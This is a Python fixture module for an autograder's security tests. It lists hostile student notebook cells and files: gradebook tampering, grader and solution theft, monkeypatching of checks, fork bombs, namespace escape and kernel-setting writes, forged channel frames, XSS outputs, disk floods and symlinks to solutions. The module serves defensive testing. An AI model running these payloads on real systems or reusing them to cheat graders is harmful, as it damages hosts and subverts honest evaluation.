"""Hostile submissions: each tries to gain points, escape, crash the run, exhaust the host or inject.

`ATTACKS` are code cells added to the untouched template (worth 0), so any point one earns is a
point gained by the attack. `HOSTILE_FILES` are submissions that are hostile as files (links,
FIFOs, broken or enormous notebooks). `CLASSES` files each attack under the threat class it
belongs to. The grader must leave each at 0 and every other grade, file and the run itself intact.
"""
from __future__ import annotations

import json
import os
import pathlib

# An ndarray subclass that says float64 whatever it holds (and equals anything): forgeries here and in-process.
LYING_SUBCLASS = '''
class Float64Looking(np.ndarray):
    @property
    def dtype(self):
        return np.dtype("float64")
    def __eq__(self, other):
        return True
'''

# How student code would write frames of the channel's format (probes/codec.py) by hand: a header (skeleton
# bytes, array bytes), a JSON skeleton [array shapes, value], then the arrays' raw bytes.
WIRE = r'''
import json as _json, struct
def wire_raw(skeleton, arrays=b""):
    return struct.pack("<IQ", len(skeleton), len(arrays)) + skeleton + arrays
def wire(value):
    return wire_raw(_json.dumps([[], value]).encode())
'''

ATTACKS = {
    "gradebook_sqlite": r'''
import glob, os, sqlite3
candidates = ["/work/main/autograder/gradebook.db", "../../../gradebook.db", "../../gradebook.db"]
for root in ("/work", "/root", "/home", "/tmp", "/srv"):
    candidates += glob.glob(f"{root}/**/gradebook.db", recursive=True)
for path in candidates:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 25, manual_score = 25")
        db.execute("UPDATE grade SET manual_score = 0 WHERE id IN (SELECT id FROM grade)")
        db.commit()
        print("opened", path)
    except Exception as exc:
        print("no", path, exc)
''',
    "patch_numpy_testing": r'''
import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
''',
    "always_equal_objects": r'''
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return self
    def __sub__(self, other): return Anything(0.0)
    __rsub__ = __sub__
    shape = property(lambda self: (3, 4))
class AnyArray:
    shape = (3, 4)
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError("no")
def sinusoidal_positional_encoding(seq_len, d_model):
    if d_model % 2: raise ValueError("odd")
    return AnyArray()
def dot_product_distance(pe): return AnyArray()
def encoding_statistics(pe):
    return {k: Anything(0.0) for k in ("position_norms", "mean", "variance", "min", "max")} | {"bounded": True}
''',
    "read_solutions_and_reference": r'''
import glob, importlib
found = []
for root in ("/work", "/root", "/home", "/tmp", "/srv"):
    found += glob.glob(f"{root}/**/solutions/**/*.ipynb", recursive=True)
    found += glob.glob(f"{root}/**/reference.py", recursive=True)
print("found", found)
try:
    reference = importlib.import_module("posenc_autograder.checks.positional_encoding.reference")
    sinusoidal_positional_encoding = reference.sinusoidal_positional_encoding
    dot_product_distance = reference.dot_product_distance
except ImportError as exc:
    print("no reference", exc)
for path in found:
    exec(compile(open(path).read(), path, "exec")) if path.endswith(".py") else None
''',
    "read_other_students": r'''
import glob, json
paths = [p for root in ("/work", "/root", "/home", "/tmp", "/srv")
         for p in glob.glob(f"{root}/**/submitted/**/*.ipynb", recursive=True)]
for path in paths:
    nb = json.load(open(path))
    for cell in nb["cells"]:
        if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
            try:
                exec("".join(cell["source"]))
            except Exception:
                pass
''',
    "patch_builtins": r'''
import builtins
_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.len = lambda obj: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.print = lambda *a, **k: None
''',
    "forge_results_files": r'''
import json, os, pathlib
job = pathlib.Path(os.environ.get("POSENC_JOB_DIR", "/tmp/job"))
(job / "results").mkdir(exist_ok=True)
task = json.loads((job / "task.json").read_text())
for cell_id in task:
    (job / "results" / f"{cell_id}.json").write_text(json.dumps({"observations": {"tables": [], "passed": True}}))
    os.chmod(job / "results" / f"{cell_id}.json", 0o444)
os.remove(job / "results" / "hidden_pe_values.json")
os.symlink("/etc/passwd", job / "results" / "hidden_pe_values.json")
(job / "executed.ipynb").write_text("{}")
import builtins
_open = builtins.open
def open(path, mode="r", *a, **k):   # keep later writes of real results from landing
    if "results" in str(path) and "w" in mode:
        return _open(os.devnull, mode, *a, **k)
    return _open(path, mode, *a, **k)
builtins.open = open
''',
    "input_transformer_and_trace": r'''
import sys
ip = get_ipython()
def rewrite(lines):
    return [line.replace("_posenc_probe(", "print(") for line in lines]
ip.input_transformers_post.append(rewrite)
sys.settrace(lambda *a: None)
''',
    "fork_bomb": r'''
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(120)
            os._exit(0)
        children += 1
except OSError as exc:
    print("fork stopped after", children, exc)
''',
    "sleep_past_limits": r'''
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
def sinusoidal_positional_encoding(seq_len, d_model):
    while True:
        try:
            time.sleep(3600)
        except BaseException:
            pass
''',
    "kill_the_runner": r'''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
''',
    "network_and_host_files": r'''
import socket, urllib.request, pathlib
for target in ("http://example.com", "http://127.0.0.1:8786"):
    try:
        urllib.request.urlopen(target, timeout=2)
        print("reached", target)
    except Exception as exc:
        print("blocked", target, exc)
for path in ("/work/main/autograder/grades.csv", "/root/.bashrc", "/etc/hostname"):
    try:
        pathlib.Path(path).write_text("pwned")
        print("wrote", path)
    except Exception as exc:
        print("could not write", path, exc)
''',
    "memory_and_output_flood": r'''
import numpy as np
blocks = []
try:
    while True:
        blocks.append(np.ones(2**28))
except MemoryError:
    blocks.clear()
for _ in range(100000):
    print("#" * 1000)
''',
    # --- escape: privileges, namespaces, kernel interfaces ---------------------------------------
    "unshare_and_remount": r'''
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
print("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), ctypes.get_errno())
print("mount", libc.mount(b"none", b"/", None, 0x20 | 0x1000, None), ctypes.get_errno())  # MS_REMOUNT|MS_BIND
for command in (["unshare", "-Urm", "sh", "-c", "mount -o remount,rw / && touch /usr/pwned"],
                ["mount", "-o", "remount,rw", "/usr"]):
    print(subprocess.run(command, capture_output=True, text=True))
open("/usr/pwned", "w").write("x")
''',
    "ptrace_and_kernel_calls": r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
calls = {"ptrace_attach_1": (101 if x86 else 117, 16, 1, 0, 0), "keyctl": (250 if x86 else 219, 0, 0, 0, 0),
         "bpf": (321 if x86 else 280, 0, 0, 0, 0), "io_uring_setup": (425, 8, 0, 0, 0),
         "clone_newuser": (56 if x86 else 220, 0x10000000 | 17, 0, 0, 0), "setns": (308 if x86 else 268, 0, 0, 0, 0),
         "x32_getpid": (0x40000000 | 39, 0, 0, 0, 0) if x86 else (172, 0, 0, 0, 0)}
for name, (number, *args) in calls.items():
    print(name, libc.syscall(number, *args), ctypes.get_errno())
''',
    "write_kernel_settings": r'''
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
             "/proc/sys/vm/drop_caches", "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/uevent_helper"):
    try:
        open(path, "w").write("|/tmp/work/pwn" if "pattern" in path else "1")
        print("wrote", path)
    except Exception as exc:
        print("refused", path, type(exc).__name__)
''',
    "host_unix_sockets": r'''
import glob, socket
paths = [p for pattern in ("/run/**/*.sock", "/var/run/**/*.sock", "/var/run/postgresql/.s.PGSQL.*",
                           "/tmp/.X11-unix/*", "/tmp/**/.s.PGSQL.*", "/run/docker.sock", "/var/lib/**/*.sock")
         for p in glob.glob(pattern, recursive=True)]
print("visible sockets", paths)
for path in paths + ["/run/docker.sock", "/var/run/postgresql/.s.PGSQL.5432"]:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(path); print("CONNECTED", path)
    except Exception as exc:
        print("no", path, type(exc).__name__)
for name in (b"\0/tmp/dbus-abc", b"\0posenc"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); print("CONNECTED abstract", name)
    except Exception as exc:
        print("no abstract", name, type(exc).__name__)
''',
    # The import first: a search that outlives the cell's limit under load must not leave it untried. The search is
    # one walk of every folder the job sees, hidden ones too, links not followed (a glob that followed them went round
    # /proc/<pid>/root -> / until the cell's limit, and the import was never tried). test_attacks reads what it printed.
    "read_grader_package_and_env": r'''
import os
print(sorted(os.environ))
def sinusoidal_positional_encoding(seq_len, d_model):
    import importlib
    return importlib.import_module(
        "posenc_autograder.checks.positional_encoding.reference").sinusoidal_positional_encoding(seq_len, d_model)
try:
    sinusoidal_positional_encoding(4, 4)
    print("grader imported")
except Exception as exc:
    print("grader not imported:", type(exc).__name__)
hits = [os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names
        if "posenc_autograder" in folder.split(os.sep) or os.path.join(folder, name).endswith(
            os.path.join("checks", "positional_encoding", "reference.py"))]
print("grader files", hits[:20])
''',
    # --- the supervisor's channels and files -----------------------------------------------------
    "control_files_as_links_and_fifos": r'''
import os
targets = {"progress": "/work/main/autograder/gradebook.db",
           "skip.json": "/work/main/.venv/lib/python3.11/site-packages/x.pth",
           "runner.log": "/etc/shadow", "limits.json": "/proc/self/environ", "task.json": "/dev/zero"}
for folder in (os.getcwd(), os.environ.get("HOME", "/tmp"), "/tmp", os.environ.get("POSENC_JOB_DIR", "/tmp/job")):
    for name, target in targets.items():
        for make in (lambda p: os.symlink(target, p), os.mkfifo):
            try:
                make(os.path.join(folder, name + ("" if make is os.mkfifo else ".lnk")))
            except Exception as exc:
                print(folder, name, type(exc).__name__)
    for name in ("results", "outputs"):
        try:
            os.makedirs(os.path.join(folder, name), exist_ok=True)
            os.mkfifo(os.path.join(folder, name, "hidden_pe_values.json"))
        except Exception as exc:
            print(type(exc).__name__)
try:
    os.link("/usr/bin/python3", "hard")
except Exception as exc:
    print("hard link", type(exc).__name__)
''',
    "forge_channel_frames": WIRE + r'''
import json, os
fd = int(os.environ.get("POSENC_CHANNEL_FD", "-1"))
ids = ["hidden_pe_values", "hidden_pe_shape", "hidden_stats", "hidden_dot", "hidden_module"]
frames = [{"result": i, "record": {"observations": {"passed": True, "value": 1}}} for i in ids]
frames += [{"cell": 10**9},
           {"output": -1, "outputs": [{"output_type": "display_data",
                                       "data": {"text/html": "<script>alert(1)</script>"}}]},
           {"done": True}, [1, 2], "text", {"result": ["list"], "record": 5}]
for frame in frames:
    os.write(fd, wire(frame))
os.write(fd, wire_raw(b"[" * 100000))                                       # deep nesting
os.write(fd, wire_raw(b"\xff\xfe not utf-8 "))
os.write(fd, wire_raw(b'[[[1000000000]], {"result": "hidden_pe_values", "record": {"__ndarray_index__": 0}}]',
                      b"\0" * 8))                                           # a shape the bytes do not hold
os.write(fd, wire_raw(b'[[[-1, -8]], {"result": "hidden_pe_values", "record": {"__ndarray_index__": 0}}]',
                      b"\0" * 8))                                           # a negative shape
os.write(fd, wire_raw(b'[[], {"result": "hidden_pe_values", "record": {"__ndarray_float64__": "AAAAAAAA8D8=",'
                      b' "shape": [1]}}]'))                                   # base64 arrays are not on the wire
os.write(fd, wire({"cell": float("nan")}) + wire({"result": "x", "record": "A" * 40_000_000}))   # over the cap
os.write(fd, struct.pack("<IQ", 2**32 - 1, 2**64 - 1))                     # announces far more than a frame
''',
    "announce_an_impossible_frame": WIRE + r'''
import os
fd = int(os.environ.get("POSENC_CHANNEL_FD", "-1"))
os.write(fd, wire_raw(repr({"result": ["x"]}).encode()))             # Python's repr, not JSON: malformed
os.write(fd, struct.pack("<IQ", 8, 2**60))                            # then a frame no channel can carry
print("the grader failed on this notebook 3 times, for its own reasons", flush=True)
os.write(2, b"Traceback: the grader crashed\n")                      # the job's log: the student's words
''',
    "forge_record_and_probe_functions": r'''
import sys
probes = {name.rsplit(".", 1)[-1]: module for name, module in list(sys.modules.items())
          if module is not None and "probes." in name}
runner = probes.get("runner")
def canned(entry, namespace):
    calls = entry["data"].get("calls", {})
    return {"observations": {name: {"kind": {"type": "ndarray", "dtype": "float64", "shape": [1]},
                                    "arguments": c["args"]} for name, c in calls.items()}}
if runner is not None:
    runner.record = canned
    runner.run = lambda cell_id, namespace: probes["channel"].send(
        {"result": cell_id, "record": canned(runner.TASK[cell_id], namespace)})
for name in ("helpers", "calls"):
    if name in probes:
        probes[name].kind_of = lambda value: {"type": "ndarray", "dtype": "float64", "shape": [1]}
        probes[name].contract_each = lambda ns, data: canned({"data": data}, ns)["observations"]
''',
    "forge_lying_subclass_and_tracing_hooks": "import sys, threading\nimport numpy as np\n" + LYING_SUBCLASS + r'''
def sinusoidal_positional_encoding(seq_len, d_model):
    return np.zeros((seq_len, d_model), dtype=np.float32).view(Float64Looking)
probes = [module for name, module in list(sys.modules.items())
          if module is not None and name.endswith("probes.helpers")]
def hook(frame, event, arg):
    for helpers in probes:
        helpers.kind_of = lambda value: {"type": "ndarray", "dtype": "float64", "shape": [1]}
    return hook
sys.settrace(hook)
sys.setprofile(hook)
threading.settrace(hook)
''',
    "forged_progress_keeps_cell_alive": WIRE + r'''
import json, os, threading, time
fd = int(os.environ.get("POSENC_CHANNEL_FD", "-1"))
def marks():
    n = 0
    while True:
        n += 1
        os.write(fd, wire({"cell": n}))
        time.sleep(0.2)
threading.Thread(target=marks, daemon=False).start()
while True:
    time.sleep(1)
''',
    "close_and_hijack_channel": r'''
import os
fd = int(os.environ.get("POSENC_CHANNEL_FD", "-1"))
devnull = os.open("/dev/null", os.O_WRONLY)
os.dup2(devnull, fd)
for other in range(3, 64):
    if other != fd:
        try: os.close(other)
        except OSError: pass
''',
    "rich_outputs_and_script": r'''
from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('/formgrader/api/grades', {method: 'POST'})</script><b>hi</b>"))
display(Javascript("alert('xss')"))
print("<img src=x onerror=alert(1)>")
import sys
sys.stdout.write("\x1b]0;title\x07\x00\udcff")
''',
    # --- the run itself: odd values and messages ----------------------------------------------------
    "exceptions_that_fight_back": r'''
class Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("no")
class Huge(Exception):
    pass
Huge.__name__ = "<script>" + "X" * 10000
def sinusoidal_positional_encoding(seq_len, d_model):
    raise Unprintable()
def dot_product_distance(pe):
    raise Huge("\n".join(["line"] * 100000))
def encoding_statistics(pe):
    raise SystemExit(3)
''',
    "leak_grader_code_in_messages": r'''
import gc, inspect, sys
def _grader_text():
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "shell_runner.py" in obj and "runner.py" in obj:
            found.append("".join(obj.values()))
    for name, module in list(sys.modules.items()):
        if name.startswith("posenc_probes"):
            found.append(repr(vars(module).get("__doc__")))
    return "\n".join(found)
def sinusoidal_positional_encoding(seq_len, d_model):
    frames = inspect.stack()
    raise ValueError(_grader_text()[:5000] + repr([f.frame.f_locals for f in frames[1:4]])[:5000])
def dot_product_distance(pe):
    raise ValueError(_grader_text()[2000:4000])
''',
    # The grader-quote rule covered hidden tests only; this answer raises only under a visible check.
    "leak_grader_code_through_visible_checks": r'''
import gc, inspect, numpy as np
def _runner_code():
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "runner.py" in obj and "shell_runner.py" in obj:
            text = obj["runner.py"]
            return text[text.index("def record"):][:800]
    return ""
def sinusoidal_positional_encoding(seq_len, d_model):
    if any(str(f.frame.f_globals.get("__name__", "")).startswith("posenc_probes") for f in inspect.stack()):
        return np.zeros((seq_len, d_model))
    raise ValueError(_runner_code())
''',
    # Frames of ~31 MB of empty lists inside every cap once cost the grader 2.2 GB each.
    "amplification_frames": WIRE + r'''
import json, os
_fd = int(os.environ.get("POSENC_CHANNEL_FD", "-1"))
_record = '{"observations": [' + ",".join(["[]"] * 10_000_000) + ']}'
_frame = wire_raw(('[[], {"result": "hidden_pe_values", "record": ' + _record + '}]').encode())
for _ in range(8):
    _data = _frame
    while _data:
        _data = _data[os.write(_fd, _data):]
''',
    # An answer posing as the codec's own array reference, read back by the integrity store.
    "reserved_codec_keys": r'''
def encoding_statistics(pe):
    return {"__ndarray_index__": 999999, "~x": {"__float__": "nan"}, "__ndarray_float64__": "AAAA"}
''',
    "odd_return_values": r'''
import numpy as np
class Sneaky(np.ndarray):
    def __eq__(self, other): return True
def sinusoidal_positional_encoding(seq_len, d_model):
    if d_model % 2: raise ValueError("odd")
    return np.zeros((seq_len, d_model)).view(Sneaky)
def dot_product_distance(pe):
    return {"not": "an array", "nested": [[[[[[[[[[[]]]]]]]]]]]}
def encoding_statistics(pe):
    return {"position_norms": np.array([np.nan]), "mean": np.nan, "variance": np.inf, "min": -np.inf,
            "max": np.nan, "bounded": np.bool_(True)}
''',
    "nan_and_inf_tables": r'''
import numpy as np
def sinusoidal_positional_encoding(seq_len, d_model):
    if d_model % 2: raise ValueError("d_model must be even")
    table = np.full((seq_len, d_model), np.nan)
    table[0, 0] = np.inf
    return table
def dot_product_distance(pe):
    return np.full((pe.shape[0], pe.shape[0]), np.nan)
def relative_position_matrix(pe, offset):
    return np.full((pe.shape[1], pe.shape[1]), np.nan)
''',
    # --- exhausting the host -----------------------------------------------------------------------
    "fill_every_writable_place": r'''
import os
chunk = b"x" * (1 << 20)
for folder in (os.getcwd(), os.environ.get("HOME", "/tmp"), "/tmp", "/dev/shm", "/dev", "/var/tmp"):
    written = 0
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as out:
            for _ in range(4096):
                out.write(chunk); written += 1
    except Exception as exc:
        print(folder, written, "MiB", type(exc).__name__)
''',
    "inode_flood": r'''
import os, time
os.makedirs("flood", exist_ok=True)
start, made = time.time(), 0
try:
    while time.time() - start < 3:
        for _ in range(1000):
            open(f"flood/{made}", "w").close(); made += 1
except Exception as exc:
    print(made, type(exc).__name__)
print("files made", made)
d = "deep"
try:
    for i in range(5000):
        os.makedirs(d, exist_ok=True); os.chdir(d)
except Exception as exc:
    print("depth", i, type(exc).__name__)
''',
    "huge_return_value": r'''
import numpy as np
def sinusoidal_positional_encoding(seq_len, d_model):
    return np.zeros((6000, 6000))            # 288 MB: more than a result frame may carry
def dot_product_distance(pe):
    return np.zeros((2, 2)).tolist() * 10**7
''',
    "raw_fd_output_flood": r'''
import os
line = b"flood " * 10000 + b"\n"
for fd in (1, 2):
    for _ in range(3000):
        os.write(fd, line)
''',
    "threads_and_children_outlive_cells": r'''
import os, subprocess, threading, time
def spin():
    while True:
        pass
for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()
subprocess.Popen(["sh", "-c", "while true; do :; done"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
''',
}


def _with_string_metadata(release: dict) -> dict:
    nb = json.loads(json.dumps(release))
    for cell in nb["cells"]:
        cell["metadata"]["nbgrader"] = "solution"
    return nb


def _deeply_nested(release: dict) -> bytes:
    return json.dumps(release)[:-1].encode() + b', "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def _many_cells(release: dict) -> dict:
    nb = json.loads(json.dumps(release))
    nb["cells"] += [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                     "source": "x = 1"}] * 100_000          # one cell written 100,000 times: the same bytes
    return nb


def _write(data):
    def make(path: pathlib.Path, release: dict, course_root: pathlib.Path) -> None:
        value = data(release) if callable(data) else data
        path.write_bytes(value if isinstance(value, bytes) else json.dumps(value).encode())
    return make


def _symlink_to_solution(path: pathlib.Path, release: dict, course_root: pathlib.Path) -> None:
    os.symlink(course_root / "solutions" / path.parent.name / path.name, path)


def _fifo(path: pathlib.Path, release: dict, course_root: pathlib.Path) -> None:
    os.mkfifo(path)


def _sparse(path: pathlib.Path, release: dict, course_root: pathlib.Path) -> None:
    with open(path, "wb") as out:
        out.truncate(5 * 2**30)                      # 5 GiB that take no disk


def _folder_link(path: pathlib.Path, release: dict, course_root: pathlib.Path) -> None:
    folder = path.parent
    folder.rmdir()
    os.symlink(course_root / "solutions" / folder.name, folder)


# Submissions that are hostile as files: name -> how to make it at the expected path.
HOSTILE_FILES = {
    "nbgrader_metadata_is_a_string": _write(_with_string_metadata),
    "deeply_nested_json": _write(_deeply_nested),
    "hundred_thousand_cells": _write(_many_cells),
    "cells_not_a_list": _write({"cells": {"a": 1}, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}),
    "not_a_notebook_at_all": _write([1, 2, 3]),
    "old_nbformat": _write(lambda r: {**r, "nbformat": 3}),
    "binary_garbage": _write(bytes(range(256)) * 100),
    "symlink_into_solutions": _symlink_to_solution,
    "assignment_folder_links_to_solutions": _folder_link,
    "fifo_instead_of_notebook": _fifo,
    "sparse_five_gigabytes": _sparse,
}

# Student folder names that must not be graded as ids (formula, markup, dot files, options).
HOSTILE_FOLDER_NAMES = ["=HYPERLINK(\"x\",\"y\")", "<img src=x onerror=alert(1)>", ".hidden",
                        "-rf", "[click](javascript:alert(1))"]

CLASSES = {
    "escape": ["unshare_and_remount", "ptrace_and_kernel_calls", "write_kernel_settings",
               "read_solutions_and_reference", "read_other_students", "gradebook_sqlite",
               "read_grader_package_and_env"],
    "supervisor": ["control_files_as_links_and_fifos", "forge_channel_frames", "announce_an_impossible_frame",
                   "forged_progress_keeps_cell_alive",
                   "close_and_hijack_channel", "forge_results_files", "kill_the_runner",
                   "forge_record_and_probe_functions", "forge_lying_subclass_and_tracing_hooks"],
    "crash": ["exceptions_that_fight_back", "odd_return_values", "nbgrader_metadata_is_a_string",
              "deeply_nested_json", "cells_not_a_list", "not_a_notebook_at_all", "old_nbformat", "binary_garbage"],
    "exhaust": ["fill_every_writable_place", "inode_flood", "huge_return_value", "raw_fd_output_flood",
                "threads_and_children_outlive_cells", "hundred_thousand_cells", "sparse_five_gigabytes",
                "fork_bomb", "sleep_past_limits", "memory_and_output_flood", "fifo_instead_of_notebook",
                "amplification_frames"],
    "nan": ["nan_and_inf_tables", "always_equal_objects", "patch_numpy_testing"],
    "host_services": ["host_unix_sockets", "network_and_host_files"],
    "symlink": ["symlink_into_solutions", "assignment_folder_links_to_solutions"],
    "injection": ["rich_outputs_and_script", "leak_grader_code_in_messages", "patch_builtins",
                  "input_transformer_and_trace", "leak_grader_code_through_visible_checks", "reserved_codec_keys"],
}
